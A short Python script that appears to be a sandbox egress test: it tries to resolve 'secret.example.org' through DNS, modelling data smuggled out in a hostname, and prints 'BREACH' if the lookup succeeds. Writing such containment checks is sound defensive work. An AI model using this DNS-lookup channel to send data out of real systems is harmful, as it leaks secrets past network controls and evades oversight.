"""Smuggles data in a name to be resolved.

must: There is no resolver.
"""
import socket
try:
    got = socket.getaddrinfo('secret.example.org', 80)
    print('BREACH' if got else 'nothing', got)
except Exception as refused:
    print(repr(refused))
